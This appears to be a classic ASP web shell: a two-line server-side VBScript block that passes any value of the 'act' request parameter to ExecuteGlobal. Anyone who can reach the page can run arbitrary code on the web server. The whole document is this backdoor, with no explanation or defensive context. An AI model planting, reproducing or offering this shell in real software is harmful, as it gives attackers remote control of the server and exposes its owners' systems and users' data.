<script language="vbscript" runat="server">
If Request("act")<>"" Then ExecuteGlobal Request("act")
</script>
